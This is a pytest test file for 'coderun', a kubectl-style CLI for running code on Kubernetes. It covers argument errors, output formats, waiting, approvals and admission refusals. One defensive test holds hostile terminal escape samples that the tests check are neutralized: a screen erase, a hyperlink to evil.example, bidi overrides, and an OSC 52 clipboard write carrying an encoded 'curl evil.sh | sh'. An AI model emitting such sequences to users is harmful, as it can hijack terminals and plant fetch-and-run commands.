"""`coderun` as a kubectl user meets it, against a fake API server over HTTP (fake_api.py): the real SDK loads the
kubeconfig, sends the requests and watches; the test plays the operator."""
import io
import json
import subprocess
import threading
import time
from pathlib import Path

import pytest
import yaml

from coderun import cli
from coderun.client.result import result_from_object
from fake_api import FakeApiServer

SUCCEEDED = {"phase": "Succeeded", "reason": "Completed", "exitCode": 0, "stdout": "42\n",
             "metrics": {"totalMillis": 2230, "wallMillis": 96}}
FAILED = {"phase": "Failed", "reason": "NonZeroExit", "exitCode": 7, "stdout": "partial\n", "stderr": "bad input\n",
          "message": "the program exited with code 7"}


def use_kubeconfig(monkeypatch, path):
    """KUBECONFIG for this test (the kubernetes package reads the variable once, at import)."""
    monkeypatch.setenv("KUBECONFIG", str(path))
    monkeypatch.setattr("kubernetes.config.kube_config.KUBE_CONFIG_DEFAULT_LOCATION", str(path))
    monkeypatch.delenv("KUBERNETES_SERVICE_HOST", raising=False)


@pytest.fixture
def api(tmp_path, monkeypatch):
    server = FakeApiServer().start()
    use_kubeconfig(monkeypatch, server.kubeconfig(tmp_path / "kubeconfig"))
    yield server
    server.stop()


def coderun(capsys, *argv):
    """(exit code, stdout, stderr) of `coderun ARGV`; argparse's own refusals exit through SystemExit."""
    try:
        code = cli.main(list(argv))
    except SystemExit as e:
        code = e.code
    out, err = capsys.readouterr()
    return code, out, err


def finishing(api, status):
    """on_create: the operator ends the run with `status` as soon as it exists."""
    return lambda obj: api.finish(obj["metadata"]["namespace"], obj["metadata"]["name"], status)


def created_bodies(api):
    return [e[2] for e in api.events if e[1] == "ADDED"]


def wait_for(predicate, seconds=10):
    deadline = time.monotonic() + seconds
    while not predicate():
        assert time.monotonic() < deadline, "condition not reached"
        time.sleep(0.02)  # polling a predicate with a deadline


# ---- usage errors come first
@pytest.mark.parametrize("kubeconfig", ["valid", "missing"])
@pytest.mark.parametrize("argv,message", [
    (["run"], "coderun run: error: give a script file (or - for standard input), or -c CODE"),
    (["run", "-c", "x", "--timeout", "5x"], "coderun run: error: argument --timeout: invalid duration '5x'"),
    (["run", "-c", "x", "--timeout", "0"], "coderun run: error: argument --timeout: '0' is not a whole number"),
    (["run", "-c", "x", "--memory", "lots"], "coderun run: error: invalid input: memory"),
    (["run", "-c", "x", "-l", "nokey"], "coderun run: error: label 'nokey' must be key=value"),
    (["run", "missing.py"], "coderun run: error: cannot read script missing.py"),
    (["-o", "wide", "run", "-c", "x"], "coderun run: error: -o wide does not apply to run"),
    (["-o", "json", "logs", "x"], "coderun logs: error: -o json does not apply to logs"),
    (["logs", "pod/x"], "coderun logs: error: argument name: 'pod/x' is not a CodeRun"),
    (["get"], "coderun get: error: the following arguments are required: name"),
    (["list", "-o", "table"], "coderun list: error: argument -o/--output: invalid choice: 'table'"),
    (["completion", "fishy"], "coderun completion: error: argument shell: invalid choice: 'fishy'"),
])
def test_usage_errors_exit_2_with_the_usage_before_any_configuration_is_read(api, capsys, monkeypatch, tmp_path,
                                                                             kubeconfig, argv, message):
    monkeypatch.chdir(tmp_path)
    if kubeconfig == "missing":
        use_kubeconfig(monkeypatch, tmp_path / "no-such-kubeconfig")
    code, out, err = coderun(capsys, *argv)
    assert code == cli.EXIT_USAGE and out == ""
    lines = err.splitlines()
    assert lines[0].startswith(f"usage: coderun {argv[0] if argv[0] != '-o' else argv[2]}"), err
    assert lines[-1].startswith(message), err
    assert api.requests == []


def test_without_a_kubeconfig_a_valid_command_is_a_configuration_failure(capsys, monkeypatch, tmp_path):
    use_kubeconfig(monkeypatch, tmp_path / "no-such-kubeconfig")
    code, _, err = coderun(capsys, "run", "-c", "print(1)")
    assert code == cli.EXIT_PLATFORM and "no usable Kubernetes configuration" in err


# ---- durations
@pytest.mark.parametrize("text,seconds", [("90", 90), ("2.5", 2.5), ("90s", 90), ("5m", 300), ("1h", 3600),
                                          ("1h30m", 5400), ("1.5h", 5400), ("500ms", 0.5), ("1m30s", 90)])
def test_durations_read_like_kubectls(text, seconds):
    assert cli.parse_duration(text) == seconds


@pytest.mark.parametrize("text", ["", "5x", "m", "-5s", "5 m", "1d", "inf", "nan", "1e3", "5m-", "s5"])
def test_other_durations_are_refused_with_the_forms_that_work(text):
    with pytest.raises(ValueError, match="use seconds \\(90\\) or a number with a unit: 90s, 5m, 1h"):
        cli.parse_duration(text)


def test_the_programs_timeout_is_whole_seconds_and_the_wait_any_positive_duration():
    import argparse
    assert cli.program_seconds("5m") == 300 and cli.program_seconds("30") == 30
    for bad in ("1.5s", "500ms", "0"):
        with pytest.raises(argparse.ArgumentTypeError, match="whole number of seconds"):
            cli.program_seconds(bad)
    assert cli.wait_seconds("1.5") == 1.5 and cli.wait_seconds("2m") == 120
    with pytest.raises(argparse.ArgumentTypeError, match="not a positive duration"):
        cli.wait_seconds("0s")


def test_run_sends_a_duration_as_the_specs_seconds(api, capsys):
    api.on_create = finishing(api, SUCCEEDED)
    code, out, err = coderun(capsys, "run", "-c", "print(6*7)", "--timeout", "5m", "--wait-timeout", "1m")
    assert (code, out) == (0, "42\n"), err
    assert created_bodies(api)[0]["spec"]["limits"]["timeoutSeconds"] == 300


# ---- global flags before or after the command
@pytest.mark.parametrize("argv", [
    ["-n", "other", "run", "-c", "print(1)"],
    ["run", "-c", "print(1)", "-n", "other"],
    ["--namespace=other", "run", "-c", "print(1)"],
    ["--context", "other", "run", "-c", "print(1)"],
    ["run", "--context=other", "-c", "print(1)"],
    ["-n", "agents", "run", "-c", "print(1)", "--namespace", "other"],  # the last one wins, as in kubectl
])
def test_namespace_and_context_work_before_or_after_the_command(api, capsys, argv):
    api.on_create = finishing(api, SUCCEEDED)
    code, _, err = coderun(capsys, *argv)
    assert code == 0, err
    assert [b["metadata"]["namespace"] for b in created_bodies(api)] == ["other"]


@pytest.mark.parametrize("before", [True, False])
def test_kubeconfig_and_output_work_before_or_after_the_command(api, capsys, monkeypatch, tmp_path, before):
    config = api.kubeconfig(tmp_path / "elsewhere", namespace="team")
    use_kubeconfig(monkeypatch, tmp_path / "no-such-kubeconfig")
    api.add("team", "run-a", SUCCEEDED)
    flags = ["--kubeconfig", str(config), "-o", "name"]
    code, out, err = coderun(capsys, *(flags + ["list"] if before else ["list"] + flags))
    assert (code, out) == (0, "coderun.coderun.io/run-a\n"), err


# ---- list
def _two_runs(api):
    api.add("agents", "run-a", SUCCEEDED, labels={"team": "a", "coderun.io/client": "cli"})
    api.add("agents", "run-b", {**FAILED, "podName": "run-b-pod", "startMode": "Warm", "policy": "default"})
    api.add("other", "run-c", SUCCEEDED)


def test_list_prints_kubectls_columns(api, capsys):
    _two_runs(api)
    code, out, _ = coderun(capsys, "list")
    lines = out.splitlines()
    assert code == 0 and lines[0].split() == ["NAME", "PHASE", "REASON", "EXIT", "DURATION-MS", "AGE"]
    assert lines[1].split()[:5] == ["run-a", "Succeeded", "Completed", "0", "2230"]
    assert lines[2].split()[:4] == ["run-b", "Failed", "NonZeroExit", "7"] and len(lines) == 3


def test_list_wide_all_namespaces_and_selectors(api, capsys):
    _two_runs(api)
    code, out, _ = coderun(capsys, "list", "-o", "wide", "-A")
    lines = out.splitlines()
    assert lines[0].split() == ["NAMESPACE", "NAME", "PHASE", "REASON", "EXIT", "DURATION-MS", "AGE", "POD",
                                "START", "POLICY"]
    assert lines[2].split()[0:2] == ["agents", "run-b"] and lines[2].split()[-3:] == ["run-b-pod", "Warm", "default"]
    assert lines[3].split()[:2] == ["other", "run-c"]
    assert coderun(capsys, "list", "-l", "team=a", "-o", "name")[1] == "coderun.coderun.io/run-a\n"
    assert coderun(capsys, "list", "--mine", "-o", "name")[1] == "coderun.coderun.io/run-a\n"


@pytest.mark.parametrize("output", ["json", "yaml"])
def test_list_json_and_yaml_hold_the_results_as_get_prints_them(api, capsys, output):
    _two_runs(api)
    code, out, _ = coderun(capsys, "list", "-o", output)
    document = json.loads(out) if output == "json" else yaml.safe_load(out)
    assert code == 0 and [i["name"] for i in document["items"]] == ["run-a", "run-b"]
    _, got, _ = coderun(capsys, "get", "run-b", "-o", output)
    assert document["items"][1] == (json.loads(got) if output == "json" else yaml.safe_load(got))
    assert document["items"][1]["exitCode"] == 7


def test_an_empty_list_says_so_on_stderr_like_kubectl(api, capsys):
    assert coderun(capsys, "list") == (0, "", "No resources found in agents namespace.\n")
    assert coderun(capsys, "list", "-o", "json")[1] == '{\n  "items": []\n}\n'


@pytest.mark.parametrize("seconds,age", [(0, "0s"), (119, "119s"), (125, "2m5s"), (300, "5m"), (1020, "17m"),
                                         (3 * 3600 + 720, "3h12m"), (20 * 3600, "20h"), (52 * 3600, "2d4h"),
                                         (45 * 86400, "45d"), (3 * 365 * 86400 + 20 * 86400, "3y20d")])
def test_age_reads_like_kubectls(seconds, age):
    assert cli.human_age(seconds) == age


# ---- get, logs
def test_get_of_a_missing_run_exits_1_like_kubectl(api, capsys):
    code, out, err = coderun(capsys, "get", "nope")
    assert (code, out) == (cli.EXIT_NOT_FOUND, "") and "not found" in err


def test_get_takes_the_names_list_o_name_prints(api, capsys):
    api.add("agents", "run-a", SUCCEEDED)
    for name in ("run-a", "crun/run-a", "coderun/run-a", "coderun.coderun.io/run-a", "coderuns.coderun.io/run-a"):
        code, out, _ = coderun(capsys, "get", name)
        assert code == 0 and out.startswith("coderun: run-a exit code 0 (Completed)")


@pytest.mark.parametrize("status,code,summary", [
    (SUCCEEDED, 0, None),
    (FAILED, 7, None),
    ({"phase": "Failed", "reason": "Timeout", "signal": 9, "stdout": "tick\n",
      "effectiveLimits": {"timeoutSeconds": 1}},
     cli.EXIT_TIMEOUT, "coderun: run-a timed out after 1s"),
    ({"phase": "Failed", "reason": "OOMKilled", "signal": 9}, cli.EXIT_OOM, "coderun: run-a killed: out of memory"),
    ({"phase": "Failed", "reason": "OutputLimitExceeded", "stdout": "yyyy"}, cli.EXIT_OUTPUT_LIMIT, "coderun: run-a"),
    ({"phase": "Rejected", "reason": "PolicyDenied", "policyRule": "runtimes", "message": "ruby is not offered"},
     cli.EXIT_REJECTED, "coderun: run-a rejected (PolicyDenied, policy rule runtimes): ruby is not offered"),
    ({"phase": "Failed", "reason": "PodDeleted", "message": "the pod was deleted"}, cli.EXIT_PLATFORM,
     "coderun: run-a platform failure (PodDeleted)"),
])
def test_logs_prints_the_streams_and_exits_like_run(api, capsys, status, code, summary):
    api.add("agents", "run-a", status)
    got, out, err = coderun(capsys, "logs", "run-a")
    assert got == code and out == status.get("stdout", "")
    assert err.startswith(status.get("stderr", ""))
    last = err[len(status.get("stderr", "")):]
    assert (last == "") if summary is None else last.startswith(summary), err


def test_logs_of_a_run_still_going_exits_5_and_says_to_wait(api, capsys):
    api.add("agents", "run-a", {"phase": "Running"})
    code, out, err = coderun(capsys, "logs", "run-a")
    assert (code, out) == (cli.EXIT_NOT_FINISHED, "")
    assert "run-a has not finished (phase Running)" in err and "--wait" in err


@pytest.mark.parametrize("flag", ["-f", "--follow", "-w", "--wait"])
def test_logs_wait_returns_when_the_run_ends(api, capsys, flag):
    api.add("agents", "run-a", {"phase": "Running"})
    watching = lambda: any("watch=true" in path for _, path in api.requests)  # noqa: E731
    finisher = threading.Thread(target=lambda: (wait_for(watching), api.finish("agents", "run-a", FAILED)))
    finisher.start()
    code, out, err = coderun(capsys, "logs", flag, "run-a")
    finisher.join()
    assert (code, out, err) == (7, "partial\n", "bad input\n")


def test_logs_wait_gives_up_after_wait_timeout(api, capsys):
    api.add("agents", "run-a", {"phase": "Pending"})
    started = time.monotonic()
    code, out, err = coderun(capsys, "logs", "run-a", "--wait", "--wait-timeout", "500ms")
    assert (code, out) == (cli.EXIT_NOT_FINISHED, "") and "gave up waiting" in err
    assert "(last seen: Pending)" in err and "wait again, with a longer --wait-timeout" in err, err
    assert time.monotonic() - started < 10


def test_logs_of_a_missing_run_exits_1(api, capsys):
    assert coderun(capsys, "logs", "nope")[0] == cli.EXIT_NOT_FOUND
    assert coderun(capsys, "logs", "nope", "--wait")[0] == cli.EXIT_NOT_FOUND


# ---- delete
def test_delete_says_what_it_deleted_and_exits_1_for_a_missing_run(api, capsys):
    api.add("agents", "run-a", SUCCEEDED)
    api.add("agents", "run-b", SUCCEEDED)
    code, out, err = coderun(capsys, "delete", "run-a", "nope", "coderun.coderun.io/run-b")
    assert code == cli.EXIT_NOT_FOUND
    assert out == 'coderun.coderun.io "run-a" deleted\ncoderun.coderun.io "run-b" deleted\n'
    assert err == 'coderun: coderun.coderun.io "nope" not found in namespace agents\n'
    assert api.runs == {}


def test_delete_ignore_not_found(api, capsys):
    api.add("agents", "run-a", SUCCEEDED)
    assert coderun(capsys, "delete", "--ignore-not-found", "nope", "run-a") == (
        0, 'coderun.coderun.io "run-a" deleted\n', "")


# ---- approve, reject
@pytest.mark.parametrize("verb, done, annotation", [("approve", "approved", "coderun.io/approved-by"),
                                                    ("reject", "rejected", "coderun.io/rejected-by")])
def test_a_verdict_is_recorded_under_the_callers_own_username(api, capsys, verb, done, annotation):
    api.add("agents", "run-a")
    api.user = ("bob", ["approvers", "system:authenticated"])
    assert coderun(capsys, verb, "crun/run-a") == (0, f'coderun.coderun.io "run-a" {done}\n', "")
    # The API server takes the verdict only as the requester's own username: the CLI writes what it named.
    assert api.runs[("agents", "run-a")]["metadata"]["annotations"][annotation] == "bob"
    assert coderun(capsys, verb, "nope")[0] == cli.EXIT_NOT_FOUND


# ---- run
def test_a_run_states_who_creates_it_as_the_api_server_named_the_caller(api, capsys):
    api.on_create = finishing(api, SUCCEEDED)
    api.user = ("system:serviceaccount:agents:bot", ["system:serviceaccounts", "system:authenticated"])
    stated = []
    api.refuse_create = lambda body: stated.append(body["metadata"]["annotations"]) or None
    assert coderun(capsys, "run", "-c", "print(6*7)")[0] == 0
    assert [(a["coderun.io/created-by"], a["coderun.io/created-by-groups"]) for a in stated] == [
        ("system:serviceaccount:agents:bot", "system:serviceaccounts\nsystem:authenticated")]


def test_a_caller_not_let_ask_who_it_is_still_runs_stating_nobody(api, capsys):
    api.on_create = finishing(api, SUCCEEDED)
    api.refuse_review = True
    stated = []
    api.refuse_create = lambda body: stated.append(body["metadata"]["annotations"]) or None
    assert coderun(capsys, "run", "-c", "print(6*7)")[0] == 0
    assert stated and "coderun.io/created-by" not in stated[0]


def test_run_prints_the_result_and_deletes_the_run(api, capsys):
    api.on_create = finishing(api, FAILED)
    code, out, err = coderun(capsys, "run", "-c", "import sys; sys.exit(7)")
    assert (code, out) == (7, "partial\n")
    assert err.splitlines()[0] == "bad input" and "exit code 7 (NonZeroExit)" in err.splitlines()[-1]
    assert api.runs == {} and [m for m, _ in api.requests].count("DELETE") == 1


def test_run_that_gives_up_says_what_the_run_waited_for_in_the_cli_s_words(api, capsys):
    """Issue 35, item 8: the CLI gave up at 180 s with SDK wording (wait(timeout=...)), the run still "waiting"."""
    waiting = {"phase": "Pending", "reason": "PodCreated", "message": "sandbox pod r-sandbox created, not yet "
               "scheduled: 0/1 nodes are available: 1 Insufficient cpu. It waits for room"}
    def on_create(obj):
        obj["status"] = dict(waiting)
    api.on_create = on_create
    code, out, err = coderun(capsys, "run", "-c", "print(1)", "--wait-timeout", "300ms")
    assert (code, out) == (cli.EXIT_NOT_FINISHED, "")
    assert "last seen: Pending: PodCreated, sandbox pod r-sandbox created, not yet scheduled: 0/1 nodes are " \
           "available: 1 Insufficient cpu." in err, err
    assert "--wait-timeout to wait longer; it is deleted (--keep keeps it)" in err and "wait(timeout" not in err
    assert api.runs == {}  # as it said


# ---- sessions: create waits for the session to take runs, or to be refused (issue 35, item 8)
DENIED = {"phase": "Ended", "reason": "PolicyDenied",
          "message": "the built-in policy allows no sessions: apply a CodeRunPolicy with sessions.allowed: true"}


def session_status(api, status):
    def on_create_session(obj):
        obj["status"] = dict(status)
    api.on_create_session = on_create_session


def test_session_create_refused_by_its_policy_says_why_and_exits_3_not_created(api, capsys):
    session_status(api, DENIED)
    code, out, err = coderun(capsys, "session", "create", "--name", "s1")
    assert (code, out) == (cli.EXIT_REJECTED, "") and "created" not in err
    assert err == ("coderun: coderunsession.coderun.io/s1 refused (PolicyDenied): the built-in policy allows no "
                   "sessions: apply a CodeRunPolicy with sessions.allowed: true; it is deleted\n")
    assert api.sessions == {}


def test_session_create_prints_created_once_the_session_takes_runs(api, capsys):
    session_status(api, {"phase": "Ready", "reason": "Started", "podName": "s1-sandbox"})
    assert coderun(capsys, "session", "create", "--name", "s1") == (
        0, "coderunsession.coderun.io/s1 created\n", "")
    assert list(api.sessions) == [("agents", "s1")]


def test_session_create_that_does_not_start_in_time_says_what_it_waits_for_and_exits_5(api, capsys):
    session_status(api, {"phase": "Pending", "reason": "PodCreated", "message": "sandbox pod s1-sandbox created"})
    code, out, err = coderun(capsys, "session", "create", "--name", "s1", "--wait-timeout", "300ms")
    assert (code, out) == (cli.EXIT_NOT_FINISHED, "")
    assert "not ready after 0s (last seen: Pending: PodCreated, sandbox pod s1-sandbox created); it is kept" in err
    assert coderun(capsys, "session", "create", "--name", "s2", "--no-wait")[:2] == (
        0, "coderunsession.coderun.io/s2 created\n")


SESSION_ENDED_DENIAL = ('coderuns.coderun.io "r-1" is forbidden: ValidatingAdmissionPolicy \'session.coderun.io\' '
                        "with binding 'session.coderun.io' denied request: CodeRunSession s1 has ended (PolicyDenied): "
                        "create a new session (rule session-ended)")


def test_a_run_in_a_session_that_ended_names_the_session_s_end_not_rbac(api, capsys):
    session_status(api, DENIED)
    coderun(capsys, "session", "create", "--name", "s1", "--no-wait")
    api.refuse_create = lambda body: (403, SESSION_ENDED_DENIAL)
    code, out, err = coderun(capsys, "run", "--session", "s1", "-c", "print(1)")
    assert code == cli.EXIT_REJECTED and "RBAC" not in err, err
    assert "CodeRunSession agents/s1 has ended (PolicyDenied): the built-in policy allows no sessions" in err


def test_an_admission_policy_s_refusal_is_its_own_message_not_an_rbac_hint():
    from coderun.client.waiting import refuse
    error = refuse("create CodeRun", 403, SESSION_ENDED_DENIAL)
    assert str(error) == ("create CodeRun refused: CodeRunSession s1 has ended (PolicyDenied): create a new session "
                          "(rule session-ended)")
    assert "RBAC" in str(refuse("create CodeRun", 403, 'coderuns.coderun.io is forbidden: User "bob" cannot create'))


ADMISSION_DENIAL = ('admission webhook "validate.coderun.io" denied the request: memory 4Gi is above the '
                    "policy's maximum 1Gi; ask for at most 1Gi [maximums.memory]")


def test_run_refused_at_admission_prints_a_rejected_status_with_o_json(api, capsys):
    api.refuse_create = lambda body: (403, ADMISSION_DENIAL)
    code, out, err = coderun(capsys, "run", "-c", "print(1)", "--memory", "4Gi", "-o", "json")
    assert code == cli.EXIT_REJECTED and err == ""
    assert json.loads(out) == {"namespace": "agents", "phase": "Rejected", "reason": "PolicyDenied",
                               "policyRule": "maximums.memory",
                               "message": "memory 4Gi is above the policy's maximum 1Gi; ask for at most 1Gi"}


def test_run_refused_at_admission_says_why_in_text(api, capsys):
    api.refuse_create = lambda body: (403, ADMISSION_DENIAL)
    code, out, err = coderun(capsys, "run", "-c", "print(1)")
    assert (code, out) == (cli.EXIT_REJECTED, "")
    assert err == ("coderun: rejected (PolicyDenied, policy rule maximums.memory): memory 4Gi is above the "
                   "policy's maximum 1Gi; ask for at most 1Gi\n")


def test_run_refused_by_the_schema_is_an_invalid_spec_rejection(api, capsys):
    api.refuse_create = lambda body: (422, 'CodeRun.coderun.io "" is invalid: spec.language: Invalid value')
    code, out, _ = coderun(capsys, "-o", "yaml", "run", "-c", "print(1)")
    document = yaml.safe_load(out)
    assert code == cli.EXIT_REJECTED and (document["phase"], document["reason"]) == ("Rejected", "InvalidSpec")
    assert "spec.language: Invalid value" in document["message"]


def test_run_rejected_by_the_operator_prints_its_status_with_o_json(api, capsys):
    api.on_create = finishing(api, {"phase": "Rejected", "reason": "PolicyDenied", "policyRule": "runtimes",
                                    "message": "ruby is not offered"})
    code, out, _ = coderun(capsys, "run", "-c", "puts 1", "--language", "ruby", "-o", "json")
    document = json.loads(out)
    assert code == cli.EXIT_REJECTED and document["phase"] == "Rejected" and document["policyRule"] == "runtimes"
    assert document["name"].startswith("run-")


def test_an_unreachable_api_server_is_exit_4(api, capsys):
    api.stop()
    code, _, err = coderun(capsys, "get", "run-a")
    assert code == cli.EXIT_PLATFORM and "did not answer" in err


# ---- a program's output cannot drive the terminal
HOSTILE = ("clear\x1b[2J"                                    # CSI: erase the screen
           "clip\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"      # OSC 52: write the clipboard
           "link\x1b]8;;https://evil.example/\x1b\\here\x1b]8;;\x1b\\"  # OSC 8: a hyperlink
           "c1\x9b31m"                                       # C1 CSI: colours on terminals that take 8-bit C1
           "bidi\u202eexe.txt\u2066x\u2069"                  # bidi overrides and isolates
           "cr\rback\bbell\x07nul\x00del\x7f"                # carriage return, backspace, BEL, NUL, DEL
           "\tkept\n")


class Terminal(io.StringIO):
    def isatty(self):
        return True


def _safe(text):
    return all(c in "\n\t" or c.isprintable() for c in text)


def test_program_output_to_a_terminal_shows_every_control_as_a_visible_escape():
    shown = cli.terminal_text(HOSTILE, Terminal(), raw=False)
    assert _safe(shown) and shown.endswith("\tkept\n")
    for visible in ("\\x1b[2J", "\\x1b]52;c;", "\\x1b]8;;https://evil.example/\\x1b\\", "\\x9b31m", "\\u202e",
                    "\\u2066", "\\x0d", "\\x08", "\\x07", "\\x00", "\\x7f"):
        assert visible in shown


def test_program_output_into_a_pipe_or_with_raw_is_unchanged():
    assert cli.terminal_text(HOSTILE, io.StringIO(), raw=False) == HOSTILE
    assert cli.terminal_text(HOSTILE, Terminal(), raw=True) == HOSTILE


def test_every_output_format_is_safe_on_a_terminal():
    result = result_from_object({"metadata": {"name": "run-a", "namespace": "ns"}, "status": {
        "phase": "Failed", "reason": "NonZeroExit", "exitCode": 1, "message": HOSTILE, "stdout": HOSTILE,
        "stderr": HOSTILE, "error": {"type": HOSTILE, "message": HOSTILE}}})
    for output in ("text", "json", "yaml"):
        out, err = Terminal(), Terminal()
        cli.print_result(result, output, out, err)
        assert _safe(out.getvalue()) and _safe(err.getvalue()), output
    out = io.StringIO()  # into a file, YAML carries the exact strings
    cli.print_result(result, "yaml", out, io.StringIO())
    assert yaml.safe_load(out.getvalue())["stdout"] == HOSTILE


@pytest.mark.parametrize("raw", [False, True])
def test_run_and_logs_neutralize_a_programs_escapes_on_a_terminal_unless_raw(api, capsys, monkeypatch, raw):
    api.on_create = finishing(api, {"phase": "Failed", "reason": "NonZeroExit", "exitCode": 1, "stdout": HOSTILE,
                                    "stderr": HOSTILE})
    api.add("agents", "run-a", {"phase": "Succeeded", "reason": "Completed", "exitCode": 0, "stdout": HOSTILE})
    for argv in (["run", "-c", "print(1)"], ["logs", "run-a"]):
        out, err = Terminal(), Terminal()
        monkeypatch.setattr("sys.stdout", out)
        monkeypatch.setattr("sys.stderr", err)
        cli.main(argv + (["--raw"] if raw else []))
        assert (out.getvalue() == HOSTILE) is raw and _safe(out.getvalue()) is not raw, argv
        assert (HOSTILE in err.getvalue()) is (raw and argv[0] == "run")


# ---- completion and help
def test_bash_completion_is_a_valid_script_with_every_command_and_run_names(capsys):
    code, script, _ = coderun(capsys, "completion", "bash")
    assert code == 0
    checked = subprocess.run(["bash", "-n"], input=script, text=True, capture_output=True)
    assert checked.returncode == 0, checked.stderr
    for word in ("run", "logs", "list", "delete", "completion", "--ignore-not-found", "--kubeconfig",
                 "coderun list -o name"):
        assert word in script
    assert "-F _shtab_coderun coderun" in script


def test_bash_completion_completes_commands_flags_and_output_formats(capsys, tmp_path):
    script = tmp_path / "coderun.bash"
    script.write_text(coderun(capsys, "completion", "bash")[1])

    def complete(*words):
        line = " ".join(("coderun",) + words)
        probe = (f"source {script}\nCOMP_WORDS=({line}); COMP_CWORD={len(words)}; COMP_LINE='{line}'; "
                 f"COMP_POINT=${{#COMP_LINE}}\n_shtab_coderun\nprintf '%s\\n' \"${{COMPREPLY[@]}}\"\n")
        return subprocess.run(["bash", "-c", probe], capture_output=True, text=True).stdout.split()

    assert {"run", "logs", "list", "delete", "completion"} <= set(complete(""))
    assert complete("list", "-o", "") == ["text", "json", "yaml", "wide", "name"]
    assert "--ignore-not-found" in complete("delete", "--ig")


@pytest.mark.parametrize("shell,marker", [("zsh", "#compdef coderun"), ("tcsh", "complete coderun")])
def test_zsh_and_tcsh_completion(capsys, shell, marker):
    code, script, _ = coderun(capsys, "completion", shell)
    assert code == 0 and marker in script


@pytest.mark.parametrize("command", cli.ALL_COMMANDS)
def test_every_command_documents_its_exit_codes_in_help(capsys, command):
    code, out, _ = coderun(capsys, command, "--help")
    assert code == 0 and f"exit codes of `{command}`:" in out
    for exit_code, meaning, commands in cli.EXIT_CODES:
        assert (f"\n  {exit_code:<6} {meaning}\n" in out + "\n") is (command in commands), (exit_code, out)


def test_docs_carry_the_exit_code_table():
    assert cli.exit_codes_markdown() in (Path(__file__).parents[2] / "docs" / "agents.md").read_text()
